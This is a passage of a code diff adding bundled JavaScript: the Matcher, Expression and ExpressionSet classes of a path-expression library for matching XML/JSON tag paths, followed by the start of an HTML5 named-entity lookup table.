+    return this._matcher.toString(separator, includeNamespace);
+  }
+
+  /**
+   * Get path as array of tag names.
+   * @returns {string[]}
+   */
+  toArray() {
+    return this._matcher.path.map(n => n.tag);
+  }
+
+  /**
+   * Match current path against an Expression.
+   * @param {Expression} expression
+   * @returns {boolean}
+   */
+  matches(expression) {
+    return this._matcher.matches(expression);
+  }
+
+  /**
+   * Match any expression in the given set against the current path.
+   * @param {ExpressionSet} exprSet
+   * @returns {boolean}
+   */
+  matchesAny(exprSet) {
+    return exprSet.matchesAny(this._matcher);
+  }
+}
+
+/**
+ * Matcher - Tracks current path in XML/JSON tree and matches against Expressions.
+ *
+ * The matcher maintains a stack of nodes representing the current path from root to
+ * current tag. It only stores attribute values for the current (top) node to minimize
+ * memory usage. Sibling tracking is used to auto-calculate position and counter.
+ *
+ * Use {@link Matcher#readOnly} to obtain a {@link MatcherView} safe to pass to
+ * user callbacks — it always reflects current state with no Proxy overhead.
+ *
+ * @example
+ * const matcher = new Matcher();
+ * matcher.push("root", {});
+ * matcher.push("users", {});
+ * matcher.push("user", { id: "123", type: "admin" });
+ *
+ * const expr = new Expression("root.users.user");
+ * matcher.matches(expr); // true
+ */
+class Matcher {
+  /**
+   * Create a new Matcher.
+   * @param {Object} [options={}]
+   * @param {string} [options.separator='.'] - Default path separator
+   */
+  constructor(options = {}) {
+    this.separator = options.separator || '.';
+    this.path = [];
+    this.siblingStacks = [];
+    // Each path node: { tag, values, position, counter, namespace? }
+    // values only present for current (last) node
+    // Each siblingStacks entry: Map<tagName, count> tracking occurrences at each level
+    this._pathStringCache = null;
+    this._view = new MatcherView(this);
+
+    // Kept-attribute stack: only populated when push() is called with options.keep.
+    this._keptAttrs = [];
+  }
+
+  /**
+   * Push a new tag onto the path.
+   * @param {string} tagName
+   * @param {Object|null} [attrValues=null]
+   * @param {string|null} [namespace=null]
+   * @param {Object|null} [options=null]
+   * @param {string[]} [options.keep] - Names of attributes (from attrValues)
+   */
+  push(tagName, attrValues = null, namespace = null, options = null) {
+    this._pathStringCache = null;
+
+    // Remove values from previous current node (now becoming ancestor)
+    if (this.path.length > 0) {
+      this.path[this.path.length - 1].values = undefined;
+    }
+
+    // Get or create sibling tracking for current level
+    const currentLevel = this.path.length;
+    let level = this.siblingStacks[currentLevel];
+    if (!level) {
+      // `counts` tells same-name siblings apart (the "counter" — nth <item>
+      // among other <item>s). `total` is every child seen at this level so
+      // far, kept as a running number instead of re-added from `counts` on
+      // every push — a parent with many differently-named children would
+      // otherwise cost more per child the more distinct names it has.
+      level = { counts: new Map(), total: 0 };
+      this.siblingStacks[currentLevel] = level;
+    }
+
+    // Create a unique key for sibling tracking that includes namespace
+    const siblingKey = namespace ? `${namespace}:${tagName}` : tagName;
+
+    // Calculate counter (how many times this tag appeared at this level)
+    const counter = level.counts.get(siblingKey) || 0;
+
+    // Position = total children at this level seen before this one.
+    const position = level.total;
+
+    // Update sibling count for this tag, and the level's running total.
+    level.counts.set(siblingKey, counter + 1);
+    level.total++;
+
+    // Create new node
+    const node = {
+      tag: tagName,
+      position: position,
+      counter: counter
+    };
+
+    if (namespace !== null && namespace !== undefined) {
+      node.namespace = namespace;
+    }
+
+    if (attrValues !== null && attrValues !== undefined) {
+      node.values = attrValues;
+    }
+
+    this.path.push(node);
+
+    // Depth of the node we just pushed (1-based, matches this.path.length)
+    const depth = this.path.length;
+
+    // Copy only the requested attributes into the kept-attrs stack. This is
+    // the one part of push() whose cost scales with input (O(keep.length))
+    // rather than being O(1) — by design, since the caller is explicitly
+    // opting in for specific attribute names. No options/keep => zero added
+    // cost beyond the two property reads below.
+    const keep = options !== null ? options.keep : null;
+    if (keep !== null && keep !== undefined && keep.length > 0 && attrValues) {
+      for (let i = 0; i < keep.length; i++) {
+        const name = keep[i];
+        if (attrValues[name] !== undefined) {
+          this._keptAttrs.push({ depth, name, value: attrValues[name] });
+        }
+      }
+    }
+  }
+
+  /**
+   * Pop the last tag from the path.
+   * @returns {Object|undefined} The popped node
+   */
+  pop() {
+    if (this.path.length === 0) return undefined;
+    this._pathStringCache = null;
+
+    const node = this.path.pop();
+
+    if (this.siblingStacks.length > this.path.length + 1) {
+      this.siblingStacks.length = this.path.length + 1;
+    }
+
+    // Drop any kept attributes that belonged to the popped node (or deeper).
+    // _keptAttrs is depth-ordered (push only ever appends increasing depths),
+    // so this is a backward scan that stops at the first surviving entry —
+    // typically O(1) since kept attrs are rare by design.
+    const poppedDepth = this.path.length + 1;
+    while (
+      this._keptAttrs.length > 0 &&
+      this._keptAttrs[this._keptAttrs.length - 1].depth >= poppedDepth
+    ) {
+      this._keptAttrs.pop();
+    }
+
+    return node;
+  }
+
+  /**
+   * Update current node's attribute values.
+   * Useful when attributes are parsed after push.
+   * @param {Object} attrValues
+   */
+  updateCurrent(attrValues) {
+    if (this.path.length > 0) {
+      const current = this.path[this.path.length - 1];
+      if (attrValues !== null && attrValues !== undefined) {
+        current.values = attrValues;
+      }
+    }
+  }
+
+  /**
+   * Get current tag name.
+   * @returns {string|undefined}
+   */
+  getCurrentTag() {
+    return this.path.length > 0 ? this.path[this.path.length - 1].tag : undefined;
+  }
+
+  /**
+   * Get current namespace.
+   * @returns {string|undefined}
+   */
+  getCurrentNamespace() {
+    return this.path.length > 0 ? this.path[this.path.length - 1].namespace : undefined;
+  }
+
+  /**
+   * Get current node's attribute value.
+   * @param {string} attrName
+   * @returns {*}
+   */
+  getAttrValue(attrName) {
+    if (this.path.length === 0) return undefined;
+    return this.path[this.path.length - 1].values?.[attrName];
+  }
+
+  /**
+   * Check if current node has an attribute.
+   * @param {string} attrName
+   * @returns {boolean}
+   */
+  hasAttr(attrName) {
+    if (this.path.length === 0) return false;
+    const current = this.path[this.path.length - 1];
+    return current.values !== undefined && attrName in current.values;
+  }
+
+  /**
+   * Get the value of a "kept" attribute from the nearest ancestor (or
+   * current node) that declared it via `push(tag, attrs, ns, { keep: [...] })`.
+   * Unlike getAttrValue(), this works regardless of how deep the path has
+   * gone since the attribute was pushed — but only for attribute names that
+   * were explicitly marked with `keep` at push time. Cost is proportional to
+   * the number of currently-kept attributes (typically 0-3), not path depth.
+   * @param {string} attrName
+   * @returns {*} the value, or undefined if no ancestor kept this attribute
+   */
+  getAnyParentAttr(attrName) {
+    const kept = this._keptAttrs;
+    for (let i = kept.length - 1; i >= 0; i--) {
+      if (kept[i].name === attrName) return kept[i].value;
+    }
+    return undefined;
+  }
+
+  /**
+   * Check whether any ancestor (or the current node) kept the given
+   * attribute via `push(tag, attrs, ns, { keep: [...] })`.
+   * @param {string} attrName
+   * @returns {boolean}
+   */
+  hasAnyParentAttr(attrName) {
+    const kept = this._keptAttrs;
+    for (let i = kept.length - 1; i >= 0; i--) {
+      if (kept[i].name === attrName) return true;
+    }
+    return false;
+  }
+
+  /**
+   * Get current node's sibling position (child index in parent).
+   * @returns {number}
+   */
+  getPosition() {
+    if (this.path.length === 0) return -1;
+    return this.path[this.path.length - 1].position ?? 0;
+  }
+
+  /**
+   * Get current node's repeat counter (occurrence count of this tag name).
+   * @returns {number}
+   */
+  getCounter() {
+    if (this.path.length === 0) return -1;
+    return this.path[this.path.length - 1].counter ?? 0;
+  }
+
+  /**
+   * Get current node's sibling index (alias for getPosition).
+   * @returns {number}
+   * @deprecated Use getPosition() or getCounter() instead
+   */
+  getIndex() {
+    return this.getPosition();
+  }
+
+  /**
+   * Get current path depth.
+   * @returns {number}
+   */
+  getDepth() {
+    return this.path.length;
+  }
+
+  /**
+   * Get path as string.
+   * @param {string} [separator] - Optional separator (uses default if not provided)
+   * @param {boolean} [includeNamespace=true]
+   * @returns {string}
+   */
+  toString(separator, includeNamespace = true) {
+    const sep = separator || this.separator;
+    const isDefault = (sep === this.separator && includeNamespace === true);
+
+    if (isDefault) {
+      if (this._pathStringCache !== null) {
+        return this._pathStringCache;
+      }
+      const result = this.path.map(n =>
+        (n.namespace) ? `${n.namespace}:${n.tag}` : n.tag
+      ).join(sep);
+      this._pathStringCache = result;
+      return result;
+    }
+
+    return this.path.map(n =>
+      (includeNamespace && n.namespace) ? `${n.namespace}:${n.tag}` : n.tag
+    ).join(sep);
+  }
+
+  /**
+   * Get path as array of tag names.
+   * @returns {string[]}
+   */
+  toArray() {
+    return this.path.map(n => n.tag);
+  }
+
+  /**
+   * Reset the path to empty.
+   */
+  reset() {
+    this._pathStringCache = null;
+    this.path = [];
+    this.siblingStacks = [];
+    this._keptAttrs = [];
+  }
+
+  /**
+   * Match current path against an Expression.
+   * @param {Expression} expression
+   * @returns {boolean}
+   */
+  matches(expression) {
+    const segments = expression.segments;
+
+    if (segments.length === 0) {
+      return false;
+    }
+
+    if (expression.hasDeepWildcard()) {
+      return this._matchWithDeepWildcard(segments);
+    }
+
+    return this._matchSimple(segments);
+  }
+
+  /**
+   * @private
+   */
+  _matchSimple(segments) {
+    if (this.path.length !== segments.length) {
+      return false;
+    }
+
+    for (let i = 0; i < segments.length; i++) {
+      if (!this._matchSegment(segments[i], this.path[i], i === this.path.length - 1)) {
+        return false;
+      }
+    }
+
+    return true;
+  }
+
+  /**
+   * @private
+   */
+  _matchWithDeepWildcard(segments) {
+    let pathIdx = this.path.length - 1;
+    let segIdx = segments.length - 1;
+
+    while (segIdx >= 0 && pathIdx >= 0) {
+      const segment = segments[segIdx];
+
+      if (segment.type === 'deep-wildcard') {
+        segIdx--;
+
+        if (segIdx < 0) {
+          return true;
+        }
+
+        const nextSeg = segments[segIdx];
+        let found = false;
+
+        for (let i = pathIdx; i >= 0; i--) {
+          if (this._matchSegment(nextSeg, this.path[i], i === this.path.length - 1)) {
+            pathIdx = i - 1;
+            segIdx--;
+            found = true;
+            break;
+          }
+        }
+
+        if (!found) {
+          return false;
+        }
+      } else {
+        if (!this._matchSegment(segment, this.path[pathIdx], pathIdx === this.path.length - 1)) {
+          return false;
+        }
+        pathIdx--;
+        segIdx--;
+      }
+    }
+
+    return segIdx < 0;
+  }
+
+  /**
+   * @private
+   */
+  _matchSegment(segment, node, isCurrentNode) {
+    if (segment.tag !== '*' && segment.tag !== node.tag) {
+      return false;
+    }
+
+    if (segment.namespace !== undefined) {
+      if (segment.namespace !== '*' && segment.namespace !== node.namespace) {
+        return false;
+      }
+    }
+
+    if (segment.attrName !== undefined) {
+      if (!isCurrentNode) {
+        return false;
+      }
+
+      if (!node.values || !(segment.attrName in node.values)) {
+        return false;
+      }
+
+      if (segment.attrValue !== undefined) {
+        if (String(node.values[segment.attrName]) !== String(segment.attrValue)) {
+          return false;
+        }
+      }
+    }
+
+    if (segment.position !== undefined) {
+      if (!isCurrentNode) {
+        return false;
+      }
+
+      const counter = node.counter ?? 0;
+
+      if (segment.position === 'first' && counter !== 0) {
+        return false;
+      } else if (segment.position === 'odd' && counter % 2 !== 1) {
+        return false;
+      } else if (segment.position === 'even' && counter % 2 !== 0) {
+        return false;
+      } else if (segment.position === 'nth' && counter !== segment.positionValue) {
+        return false;
+      }
+    }
+
+    return true;
+  }
+
+  /**
+   * Match any expression in the given set against the current path.
+   * @param {ExpressionSet} exprSet
+   * @returns {boolean}
+   */
+  matchesAny(exprSet) {
+    return exprSet.matchesAny(this);
+  }
+
+  /**
+   * Create a snapshot of current state.
+   * @returns {Object}
+   */
+  snapshot() {
+    return {
+      path: this.path.map(node => ({ ...node })),
+      siblingStacks: this.siblingStacks.map(level => level ? { counts: new Map(level.counts), total: level.total } : level),
+      keptAttrs: this._keptAttrs.map(entry => ({ ...entry }))
+    };
+  }
+
+  /**
+   * Restore state from snapshot.
+   * @param {Object} snapshot
+   */
+  restore(snapshot) {
+    this._pathStringCache = null;
+    this.path = snapshot.path.map(node => ({ ...node }));
+    this.siblingStacks = snapshot.siblingStacks.map(level => level ? { counts: new Map(level.counts), total: level.total } : level);
+    this._keptAttrs = (snapshot.keptAttrs || []).map(entry => ({ ...entry }));
+  }
+
+  /**
+   * Return the read-only {@link MatcherView} for this matcher.
+   *
+   * The same instance is returned on every call — no allocation occurs.
+   * It always reflects the current parser state and is safe to pass to
+   * user callbacks without risk of accidental mutation.
+   *
+   * @returns {MatcherView}
+   *
+   * @example
+   * const view = matcher.readOnly();
+   * // pass view to callbacks — it stays in sync automatically
+   * view.matches(expr);       // ✓
+   * view.getCurrentTag();     // ✓
+   * // view.push(...)         // ✗ method does not exist — caught by TypeScript
+   */
+  readOnly() {
+    return this._view;
+  }
+}
+
+;// CONCATENATED MODULE: ./node_modules/path-expression-matcher/src/Expression.js
+/**
+ * Expression - Parses and stores a tag pattern expression
+ * 
+ * Patterns are parsed once and stored in an optimized structure for fast matching.
+ * 
+ * @example
+ * const expr = new Expression("root.users.user");
+ * const expr2 = new Expression("..user[id]:first");
+ * const expr3 = new Expression("root/users/user", { separator: '/' });
+ */
+class Expression {
+  /**
+   * Create a new Expression
+   * @param {string} pattern - Pattern string (e.g., "root.users.user", "..user[id]")
+   * @param {Object} options - Configuration options
+   * @param {string} options.separator - Path separator (default: '.')
+   */
+  constructor(pattern, options = {}, data) {
+    this.pattern = pattern;
+    this.separator = options.separator || '.';
+    this.segments = this._parse(pattern);
+    this.data = data;
+    // Cache expensive checks for performance (O(1) instead of O(n))
+    this._hasDeepWildcard = this.segments.some(seg => seg.type === 'deep-wildcard');
+    this._hasAttributeCondition = this.segments.some(seg => seg.attrName !== undefined);
+    this._hasPositionSelector = this.segments.some(seg => seg.position !== undefined);
+  }
+
+  /**
+   * Parse pattern string into segments
+   * @private
+   * @param {string} pattern - Pattern to parse
+   * @returns {Array} Array of segment objects
+   */
+  _parse(pattern) {
+    const segments = [];
+
+    // Split by separator but handle ".." specially
+    let i = 0;
+    let currentPart = '';
+
+    while (i < pattern.length) {
+      if (pattern[i] === this.separator) {
+        // Check if next char is also separator (deep wildcard)
+        if (i + 1 < pattern.length && pattern[i + 1] === this.separator) {
+          // Flush current part if any
+          if (currentPart.trim()) {
+            segments.push(this._parseSegment(currentPart.trim()));
+            currentPart = '';
+          }
+          // Add deep wildcard
+          segments.push({ type: 'deep-wildcard' });
+          i += 2; // Skip both separators
+        } else {
+          // Regular separator
+          if (currentPart.trim()) {
+            segments.push(this._parseSegment(currentPart.trim()));
+          }
+          currentPart = '';
+          i++;
+        }
+      } else {
+        currentPart += pattern[i];
+        i++;
+      }
+    }
+
+    // Flush remaining part
+    if (currentPart.trim()) {
+      segments.push(this._parseSegment(currentPart.trim()));
+    }
+
+    return segments;
+  }
+
+  /**
+   * Parse a single segment
+   * @private
+   * @param {string} part - Segment string (e.g., "user", "ns::user", "user[id]", "ns::user:first")
+   * @returns {Object} Segment object
+   */
+  _parseSegment(part) {
+    const segment = { type: 'tag' };
+
+    // NEW NAMESPACE SYNTAX (v2.0):
+    // ============================
+    // Namespace uses DOUBLE colon (::)
+    // Position uses SINGLE colon (:)
+    // 
+    // Examples:
+    //   "user"              → tag
+    //   "user:first"        → tag + position
+    //   "user[id]"          → tag + attribute
+    //   "user[id]:first"    → tag + attribute + position
+    //   "ns::user"          → namespace + tag
+    //   "ns::user:first"    → namespace + tag + position
+    //   "ns::user[id]"      → namespace + tag + attribute
+    //   "ns::user[id]:first" → namespace + tag + attribute + position
+    //   "ns::first"         → namespace + tag named "first" (NO ambiguity!)
+    //
+    // This eliminates all ambiguity:
+    //   :: = namespace separator
+    //   :  = position selector
+    //   [] = attributes
+
+    // Step 1: Extract brackets [attr] or [attr=value]
+    let bracketContent = null;
+    let withoutBrackets = part;
+
+    const bracketMatch = part.match(/^([^\[]+)(\[[^\]]*\])(.*)$/);
+    if (bracketMatch) {
+      withoutBrackets = bracketMatch[1] + bracketMatch[3];
+      if (bracketMatch[2]) {
+        const content = bracketMatch[2].slice(1, -1);
+        if (content) {
+          bracketContent = content;
+        }
+      }
+    }
+
+    // Step 2: Check for namespace (double colon ::)
+    let namespace = undefined;
+    let tagAndPosition = withoutBrackets;
+
+    if (withoutBrackets.includes('::')) {
+      const nsIndex = withoutBrackets.indexOf('::');
+      namespace = withoutBrackets.substring(0, nsIndex).trim();
+      tagAndPosition = withoutBrackets.substring(nsIndex + 2).trim(); // Skip ::
+
+      if (!namespace) {
+        throw new Error(`Invalid namespace in pattern: ${part}`);
+      }
+    }
+
+    // Step 3: Parse tag and position (single colon :)
+    let tag = undefined;
+    let positionMatch = null;
+
+    if (tagAndPosition.includes(':')) {
+      const colonIndex = tagAndPosition.lastIndexOf(':'); // Use last colon for position
+      const tagPart = tagAndPosition.substring(0, colonIndex).trim();
+      const posPart = tagAndPosition.substring(colonIndex + 1).trim();
+
+      // Verify position is a valid keyword
+      const isPositionKeyword = ['first', 'last', 'odd', 'even'].includes(posPart) ||
+        /^nth\(\d+\)$/.test(posPart);
+
+      if (isPositionKeyword) {
+        tag = tagPart;
+        positionMatch = posPart;
+      } else {
+        // Not a valid position keyword, treat whole thing as tag
+        tag = tagAndPosition;
+      }
+    } else {
+      tag = tagAndPosition;
+    }
+
+    if (!tag) {
+      throw new Error(`Invalid segment pattern: ${part}`);
+    }
+
+    segment.tag = tag;
+    if (namespace) {
+      segment.namespace = namespace;
+    }
+
+    // Step 4: Parse attributes
+    if (bracketContent) {
+      if (bracketContent.includes('=')) {
+        const eqIndex = bracketContent.indexOf('=');
+        segment.attrName = bracketContent.substring(0, eqIndex).trim();
+        segment.attrValue = bracketContent.substring(eqIndex + 1).trim();
+      } else {
+        segment.attrName = bracketContent.trim();
+      }
+    }
+
+    // Step 5: Parse position selector
+    if (positionMatch) {
+      const nthMatch = positionMatch.match(/^nth\((\d+)\)$/);
+      if (nthMatch) {
+        segment.position = 'nth';
+        segment.positionValue = parseInt(nthMatch[1], 10);
+      } else {
+        segment.position = positionMatch;
+      }
+    }
+
+    return segment;
+  }
+
+  /**
+   * Get the number of segments
+   * @returns {number}
+   */
+  get length() {
+    return this.segments.length;
+  }
+
+  /**
+   * Check if expression contains deep wildcard
+   * @returns {boolean}
+   */
+  hasDeepWildcard() {
+    return this._hasDeepWildcard;
+  }
+
+  /**
+   * Check if expression has attribute conditions
+   * @returns {boolean}
+   */
+  hasAttributeCondition() {
+    return this._hasAttributeCondition;
+  }
+
+  /**
+   * Check if expression has position selectors
+   * @returns {boolean}
+   */
+  hasPositionSelector() {
+    return this._hasPositionSelector;
+  }
+
+  /**
+   * Get string representation
+   * @returns {string}
+   */
+  toString() {
+    return this.pattern;
+  }
+}
+;// CONCATENATED MODULE: ./node_modules/path-expression-matcher/src/ExpressionSet.js
+/**
+ * ExpressionSet - An indexed collection of Expressions for efficient bulk matching
+ *
+ * Instead of iterating all expressions on every tag, ExpressionSet pre-indexes
+ * them at insertion time by depth and terminal tag name. At match time, only
+ * the relevant bucket is evaluated — typically reducing checks from O(E) to O(1)
+ * lookup plus O(small bucket) matches.
+ *
+ * Three buckets are maintained:
+ *  - `_byDepthAndTag`  — exact depth + exact tag name  (tightest, used first)
+ *  - `_wildcardByDepth` — exact depth + wildcard tag `*` (depth-matched only)
+ *  - `_deepWildcards`  — expressions containing `..`  (cannot be depth-indexed)
+ *
+ * @example
+ * import { Expression, ExpressionSet } from 'fast-xml-tagger';
+ *
+ * // Build once at config time
+ * const stopNodes = new ExpressionSet();
+ * stopNodes.add(new Expression('root.users.user'));
+ * stopNodes.add(new Expression('root.config.setting'));
+ * stopNodes.add(new Expression('..script'));
+ *
+ * // Query on every tag — hot path
+ * if (stopNodes.matchesAny(matcher)) { ... }
+ */
+class ExpressionSet {
+  constructor() {
+    /** @type {Map<string, import('./Expression.js').default[]>} depth:tag → expressions */
+    this._byDepthAndTag = new Map();
+
+    /** @type {Map<number, import('./Expression.js').default[]>} depth → wildcard-tag expressions */
+    this._wildcardByDepth = new Map();
+
+    /** @type {import('./Expression.js').default[]} expressions containing deep wildcard (..) */
+    this._deepWildcards = [];
+
+    /** @type {Map<string, import('./Expression.js').default[]>} terminalTag → deep wildcard expressions */
+    this._deepByTerminalTag = new Map();
+
+    /** @type {Set<string>} pattern strings already added — used for deduplication */
+    this._patterns = new Set();
+
+    /** @type {boolean} whether the set is sealed against further additions */
+    this._sealed = false;
+  }
+
+  /**
+   * Add an Expression to the set.
+   * Duplicate patterns (same pattern string) are silently ignored.
+   *
+   * @param {import('./Expression.js').default} expression - A pre-constructed Expression instance
+   * @returns {this} for chaining
+   * @throws {TypeError} if called after seal()
+   *
+   * @example
+   * set.add(new Expression('root.users.user'));
+   * set.add(new Expression('..script'));
+   */
+  add(expression) {
+    if (this._sealed) {
+      throw new TypeError(
+        'ExpressionSet is sealed. Create a new ExpressionSet to add more expressions.'
+      );
+    }
+
+    // Deduplicate by pattern string
+    if (this._patterns.has(expression.pattern)) return this;
+    this._patterns.add(expression.pattern);
+
+    if (expression.hasDeepWildcard()) {
+      const lastSeg = expression.segments[expression.segments.length - 1];
+      if (lastSeg && lastSeg.type !== 'deep-wildcard' && lastSeg.tag !== '*') {
+        const tag = lastSeg.tag;
+        if (!this._deepByTerminalTag.has(tag)) this._deepByTerminalTag.set(tag, []);
+        this._deepByTerminalTag.get(tag).push(expression);
+      } else {
+        this._deepWildcards.push(expression);
+      }
+      return this;
+    }
+
+    const depth = expression.length;
+    const lastSeg = expression.segments[expression.segments.length - 1];
+    const tag = lastSeg?.tag;
+
+    if (!tag || tag === '*') {
+      // Can index by depth but not by tag
+      if (!this._wildcardByDepth.has(depth)) this._wildcardByDepth.set(depth, []);
+      this._wildcardByDepth.get(depth).push(expression);
+    } else {
+      // Tightest bucket: depth + tag
+      const key = `${depth}:${tag}`;
+      if (!this._byDepthAndTag.has(key)) this._byDepthAndTag.set(key, []);
+      this._byDepthAndTag.get(key).push(expression);
+    }
+
+    return this;
+  }
+
+  /**
+   * Add multiple expressions at once.
+   *
+   * @param {import('./Expression.js').default[]} expressions - Array of Expression instances
+   * @returns {this} for chaining
+   *
+   * @example
+   * set.addAll([
+   *   new Expression('root.users.user'),
+   *   new Expression('root.config.setting'),
+   * ]);
+   */
+  addAll(expressions) {
+    for (const expr of expressions) this.add(expr);
+    return this;
+  }
+
+  /**
+   * Check whether a pattern string is already present in the set.
+   *
+   * @param {import('./Expression.js').default} expression
+   * @returns {boolean}
+   */
+  has(expression) {
+    return this._patterns.has(expression.pattern);
+  }
+
+  /**
+   * Number of expressions in the set.
+   * @type {number}
+   */
+  get size() {
+    return this._patterns.size;
+  }
+
+  /**
+   * Seal the set against further modifications.
+   * Useful to prevent accidental mutations after config is built.
+   * Calling add() or addAll() on a sealed set throws a TypeError.
+   *
+   * @returns {this}
+   */
+  seal() {
+    this._sealed = true;
+    return this;
+  }
+
+  /**
+   * Whether the set has been sealed.
+   * @type {boolean}
+   */
+  get isSealed() {
+    return this._sealed;
+  }
+
+  /**
+   * Test whether the matcher's current path matches any expression in the set.
+   *
+   * Evaluation order (cheapest → most expensive):
+   *  1. Exact depth + tag bucket  — O(1) lookup, typically 0–2 expressions
+   *  2. Depth-only wildcard bucket — O(1) lookup, rare
+   *  3. Deep-wildcard list         — always checked, but usually small
+   *
+   * @param {import('./Matcher.js').default} matcher - Matcher instance (or readOnly view)
+   * @returns {boolean} true if any expression matches the current path
+   *
+   * @example
+   * if (stopNodes.matchesAny(matcher)) {
+   *   // handle stop node
+   * }
+   */
+  matchesAny(matcher) {
+    return this.findMatch(matcher) !== null;
+  }
+  /**
+ * Find and return the first Expression that matches the matcher's current path.
+ *
+ * Uses the same evaluation order as matchesAny (cheapest → most expensive):
+ *  1. Exact depth + tag bucket
+ *  2. Depth-only wildcard bucket
+ *  3. Deep-wildcard list
+ *
+ * @param {import('./Matcher.js').default} matcher - Matcher instance (or readOnly view)
+ * @returns {import('./Expression.js').default | null} the first matching Expression, or null
+ *
+ * @example
+ * const expr = stopNodes.findMatch(matcher);
+ * if (expr) {
+ *   // access expr.config, expr.pattern, etc.
+ * }
+ */
+  findMatch(matcher) {
+    const depth = matcher.getDepth();
+    const tag = matcher.getCurrentTag();
+
+    // 1. Tightest bucket — most expressions live here
+    const exactKey = `${depth}:${tag}`;
+    const exactBucket = this._byDepthAndTag.get(exactKey);
+    if (exactBucket) {
+      for (let i = 0; i < exactBucket.length; i++) {
+        if (matcher.matches(exactBucket[i])) return exactBucket[i];
+      }
+    }
+
+    // 2. Depth-matched wildcard-tag expressions
+    const wildcardBucket = this._wildcardByDepth.get(depth);
+    if (wildcardBucket) {
+      for (let i = 0; i < wildcardBucket.length; i++) {
+        if (matcher.matches(wildcardBucket[i])) return wildcardBucket[i];
+      }
+    }
+
+    // 3. Deep wildcards — indexed by terminal tag, then unindexed fallback
+    const deepBucket = this._deepByTerminalTag.get(tag);
+    if (deepBucket) {
+      for (let i = 0; i < deepBucket.length; i++) {
+        if (matcher.matches(deepBucket[i])) return deepBucket[i];
+      }
+    }
+    for (let i = 0; i < this._deepWildcards.length; i++) {
+      if (matcher.matches(this._deepWildcards[i])) return this._deepWildcards[i];
+    }
+
+    return null;
+  }
+}
+
+;// CONCATENATED MODULE: ./node_modules/@nodable/entities/src/entities.js
+// ---------------------------------------------------------------------------
+// Complete HTML5 named entity reference
+// Organized by logical categories for easy maintenance and selective importing
+// ---------------------------------------------------------------------------
+
+/**
+ * Basic Latin & Special Characters
+ * @type {Record<string, string>}
+ */
+const BASIC_LATIN = {
+  amp: '&',
+  AMP: '&',
+  lt: '<',
+  LT: '<',
+  gt: '>',
+  GT: '>',
+  quot: '"',
+  QUOT: '"',
+  apos: "'",
+  lsquo: '‘',
+  rsquo: '’',
+  ldquo: '“',
+  rdquo: '”',
+  lsquor: '‚',
+  rsquor: '’',
+  ldquor: '„',
+  bdquo: '„',
+  comma: ',',
+  period: '.',
+  colon: ':',
+  semi: ';',
+  excl: '!',
+  quest: '?',
+  num: '#',
+  dollar: '$',
+  percent: '%',
+  ast: '*',
+  commat: '@',
+  lowbar: '_',
+  verbar: '|',
+  vert: '|',
+  sol: '/',
+  bsol: '\\',
+  lbrace: '{',
+  rbrace: '}',
+  lbrack: '[',
+  rbrack: ']',
+  lpar: '(',
+  rpar: ')',
+  nbsp: '\u00a0',
+  iexcl: '¡',
+  cent: '¢',
+  pound: '£',
+  curren: '¤',
+  yen: '¥',
+  brvbar: '¦',
+  sect: '§',
+  uml: '¨',
+  copy: '©',
+  COPY: '©',
+  ordf: 'ª',
+  laquo: '«',
+  not: '¬',
+  shy: '\u00ad',
+  reg: '®',
+  REG: '®',
+  macr: '¯',
+  deg: '°',
+  plusmn: '±',
+  sup2: '²',
+  sup3: '³',
+  acute: '´',
+  micro: 'µ',
+  para: '¶',
+  middot: '·',
+  cedil: '¸',
+  sup1: '¹',
+  ordm: 'º',
+  raquo: '»',
+  frac14: '¼',
+  frac12: '½',
+  half: '½',
+  frac34: '¾',
+  iquest: '¿',
+  times: '×',
+  div: '÷',
+  divide: '÷',
+};
+
+/**
+ * Latin Extended & Accented Letters (A-Z)
+ * @type {Record<string, string>}
+ */
+const LATIN_ACCENTS = {
+  Agrave: 'À',
+  agrave: 'à',
+  Aacute: 'Á',
+  aacute: 'á',
+  Acirc: 'Â',
+  acirc: 'â',
+  Atilde: 'Ã',
+  atilde: 'ã',
+  Auml: 'Ä',
+  auml: 'ä',
+  Aring: 'Å',
+  aring: 'å',
+  AElig: 'Æ',
+  aelig: 'æ',
+  Ccedil: 'Ç',
+  ccedil: 'ç',
+  Egrave: 'È',
+  egrave: 'è',
+  Eacute: 'É',
+  eacute: 'é',
+  Ecirc: 'Ê',
+  ecirc: 'ê',
+  Euml: 'Ë',
+  euml: 'ë',
+  Igrave: 'Ì',
+  igrave: 'ì',
+  Iacute: 'Í',
+  iacute: 'í',
+  Icirc: 'Î',
+  icirc: 'î',
+  Iuml: 'Ï',
+  iuml: 'ï',
+  ETH: 'Ð',
+  eth: 'ð',
+  Ntilde: 'Ñ',
+  ntilde: 'ñ',
+  Ograve: 'Ò',
+  ograve: 'ò',
+  Oacute: 'Ó',
+  oacute: 'ó',
+  Ocirc: 'Ô',
+  ocirc: 'ô',
+  Otilde: 'Õ',
+  otilde: 'õ',
+  Ouml: 'Ö',
+  ouml: 'ö',
+  Oslash: 'Ø',
+  oslash: 'ø',
+  Ugrave: 'Ù',
+  ugrave: 'ù',
+  Uacute: 'Ú',
+  uacute: 'ú',
+  Ucirc: 'Û',
+  ucirc: 'û',
+  Uuml: 'Ü',
+  uuml: 'ü',
+  Yacute: 'Ý',
+  yacute: 'ý',
+  THORN: 'Þ',
+  thorn: 'þ',
+  szlig: 'ß',
+  yuml: 'ÿ',
+  Yuml: 'Ÿ',
+};
+
+/**
+ * Latin Extended (Letters with diacritics)
+ * @type {Record<string, string>}
+ */
+const LATIN_EXTENDED = {
+  Amacr: 'Ā',
+  amacr: 'ā',
+  Abreve: 'Ă',
+  abreve: 'ă',
+  Aogon: 'Ą',
+  aogon: 'ą',
+  Cacute: 'Ć',
+  cacute: 'ć',
+  Ccirc: 'Ĉ',
+  ccirc: 'ĉ',
+  Cdot: 'Ċ',
+  cdot: 'ċ',
+  Ccaron: 'Č',
+  ccaron: 'č',
+  Dcaron: 'Ď',
+  dcaron: 'ď',
+  Dstrok: 'Đ',
+  dstrok: 'đ',
+  Emacr: 'Ē',
+  emacr: 'ē',
+  Ecaron: 'Ě',
+  ecaron: 'ě',
+  Edot: 'Ė',
+  edot: 'ė',
+  Eogon: 'Ę',
+  eogon: 'ę',
+  Gcirc: 'Ĝ',
+  gcirc: 'ĝ',
+  Gbreve: 'Ğ',
+  gbreve: 'ğ',
+  Gdot: 'Ġ',
+  gdot: 'ġ',
+  Gcedil: 'Ģ',
+  Hcirc: 'Ĥ',
+  hcirc: 'ĥ',
+  Hstrok: 'Ħ',
+  hstrok: 'ħ',
+  Itilde: 'Ĩ',
+  itilde: 'ĩ',
+  Imacr: 'Ī',
+  imacr: 'ī',
+  Iogon: 'Į',
